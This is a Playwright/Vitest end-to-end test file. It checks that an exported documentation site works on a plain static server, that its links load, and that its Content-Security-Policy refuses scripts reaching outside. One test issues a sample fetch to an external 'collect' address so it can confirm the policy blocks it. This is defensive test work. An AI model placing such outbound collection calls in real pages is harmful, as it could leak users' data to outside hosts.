import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exampleDocsDir } from '../../app/paths.js';
import { exportSite } from '../../renderer/index.js';
import { pythonStaticServer, type StaticServer } from '../helpers/static-server.js';
import { launchBrowser } from './browser.js';
import { browserSuite, chromium } from './chromium.js';
import { sharedRenderPool } from '../helpers/render-pool.js';

/**
 * The exported example docs unzipped and served by `python3 -m http.server` (no rewrite rules,
 * no appliance): a reader clicks through sidebar, pager, tab and search result links and never
 * meets a 404 (issue 15 part 8).
 */
let server: StaticServer;
let browser: Browser;
let context: BrowserContext;
const failed: string[] = [];
const posted: string[] = [];
const consoleErrors: string[] = [];

async function open(p: string): Promise<Page> {
  const page = await context.newPage();
  const res = await page.goto(server.origin + p, { waitUntil: 'networkidle' });
  expect(res?.status(), p).toBe(200);
  return page;
}

describe.skipIf(!chromium.path)(browserSuite('the exported site on a plain static server in Chromium'), () => {
  beforeAll(async () => {
    const outDir = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'docs-static-e2e-')), 'site');
    await exportSite({ pool: sharedRenderPool(), sourceDir: exampleDocsDir(), outDir, domain: 'docs.test.internal', version: 'static-e2e' });
    server = await pythonStaticServer(outDir);
    browser = await launchBrowser();
    context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    context.on('response', (res) => {
      // Nothing fails, not even the appliance's endpoints: the scripts learn from the bundle's
      // stand-in (renderer/write/appliance-stand-ins.ts) that no appliance is here and stay quiet.
      if (res.status() >= 400) failed.push(`${res.status()} ${res.url()}`);
    });
    context.on('request', (req) => {
      if (req.method() !== 'GET') posted.push(`${req.method()} ${req.url()}`);
    });
    context.on('console', (msg) => {
      if (msg.type() === 'error' || msg.type() === 'warning') consoleErrors.push(`${msg.type()}: ${msg.text()}`);
    });
  }, 90_000);

  afterAll(async () => {
    await browser?.close();
    server?.close();
  });

  it('follows sidebar, previous/next, breadcrumb and tab links to pages that load', async () => {
    const page = await open('/');
    await page.locator('.sidebar-nav a', { hasText: 'Quickstart' }).first().click();
    await page.waitForURL(server.origin + '/quickstart/');
    expect(await page.locator('h1.page-title').textContent()).toContain('Quickstart');

    await page.locator('a[rel="next"]').click();
    await page.waitForLoadState('networkidle');
    expect(await page.locator('h1.page-title').count()).toBe(1);
    await page.locator('a[rel="prev"]').click();
    await page.waitForURL(server.origin + '/quickstart/');

    await page.locator('.eyebrow a').first().click();
    await page.waitForLoadState('networkidle');
    expect(await page.locator('h1.page-title').count()).toBe(1);

    await page.locator('nav.tabs a', { hasText: 'API reference' }).first().click();
    await page.waitForLoadState('networkidle');
    expect(new URL(page.url()).pathname).toMatch(/^\/api-reference\/.+\/$/);
    expect(await page.locator('h1.page-title').count()).toBe(1);
    await page.close();
  });

  it('searches and lands on the clicked result', async () => {
    const page = await open('/');
    await page.locator('[data-search-open]').first().click();
    await page.locator('#search-input').fill('rollback');
    const first = page.locator('.search-result-link').first();
    await first.waitFor();
    const target = new URL((await first.getAttribute('href'))!, server.origin).pathname;
    await first.click();
    await page.waitForURL(server.origin + target);
    expect(await page.locator('h1.page-title').count()).toBe(1);
    await page.close();
  });

  it('shows no "Ask AI" without the appliance behind the site', async () => {
    const page = await open('/');
    await page.waitForLoadState('networkidle');
    expect(await page.locator('#assistant-launcher, #assistant-from-search').count()).toBe(0);
    await page.close();
  });

  it('carries the site policy in the page: a script that reaches outside is refused', async () => {
    const page = await open('/quickstart/');
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(csp).toContain("connect-src 'self'");
    expect(csp).not.toContain('frame-ancestors');
    // What a repository's script.js would do: the browser's policy, not the host, stops it.
    const refused = page.waitForEvent('console', (m) => /Content Security Policy/.test(m.text()) && m.text().includes('198.51.100.7'));
    const outcome = await page.evaluate(() => fetch('http://198.51.100.7/collect').then(() => 'sent', (e: unknown) => String(e)));
    expect(outcome).toMatch(/TypeError/);
    await refused;
    // The refusal is this test's own doing; the check below is about the site's scripts.
    await page.close();
    consoleErrors.splice(0, consoleErrors.length, ...consoleErrors.filter((m) => !m.includes('198.51.100.7')));
  });

  it('met no failed request, no beacon and no console error or warning on the way', () => {
    expect(failed).toEqual([]);
    expect(posted).toEqual([]);
    expect(consoleErrors).toEqual([]);
  });
});
